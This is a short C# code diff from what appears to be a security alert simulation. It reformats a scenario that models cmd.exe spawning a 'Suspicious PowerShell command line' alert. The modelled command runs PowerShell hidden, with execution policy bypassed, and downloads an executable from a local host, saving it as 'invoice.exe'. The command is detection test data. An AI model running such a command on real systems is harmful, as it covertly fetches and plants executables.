@@ -19,8 +19,12 @@ internal static class Onboarding
 
         var shell = scene.Run(explorer, At(1_310), "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ");
         var powershell = scene.Run(
-            shell, At(1_326), "powershell.exe",
-            @"powershell.exe -NoExit -ExecutionPolicy Bypass -WindowStyle Hidden (New-Object System.Net.WebClient).DownloadFile('http://127.0.0.1/1.exe', 'C:\test-WDATP-test\invoice.exe')");
+            shell,
+            At(1_326),
+            "powershell.exe",
+            "powershell.exe -NoExit -ExecutionPolicy Bypass -WindowStyle Hidden "
+                + @"(New-Object System.Net.WebClient).DownloadFile('http://127.0.0.1/1.exe', 'C:\test-WDATP-test\invoice.exe')"
+        );
         scene.Run(powershell, At(1_327), "conhost.exe", @"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1");
 
         var kind = new AlertKind("Suspicious PowerShell command line", "Execution", "Medium", AlertKind.Endpoint, "EDR", "PowerShell (T1059.001)");
